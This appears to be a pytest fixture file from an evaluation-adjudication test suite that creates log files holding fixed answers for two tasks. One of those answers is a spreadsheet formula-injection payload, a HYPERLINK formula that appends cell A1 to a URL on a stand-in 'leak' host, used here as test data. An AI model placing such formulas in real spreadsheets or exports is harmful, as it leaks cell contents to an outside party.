"""Logs with undecided answers, made once per session by `inspect eval` in a fresh process."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from tests.adjudication.shell import eval_constant

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1)'
"""An answer a spreadsheet would run as a formula; no rule reads it, so it is undecided."""


@pytest.fixture(scope="session")
def _made(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    made = {}
    for task, answer in (("isle_brick_v1", FORMULA), ("isle_dots", "It is turned away.")):
        where = tmp_path_factory.mktemp(task)
        log = eval_constant(task, where, answer)
        made[task] = Path(log.location)
    return made


@pytest.fixture
def logs(_made: dict[str, Path], tmp_path: Path) -> dict[str, Path]:
    """This test's own copies: {task: log file}, in `tmp_path/logs/`."""
    folder = tmp_path / "logs"
    folder.mkdir()
    return {task: Path(shutil.copy2(file, folder / file.name)) for task, file in _made.items()}
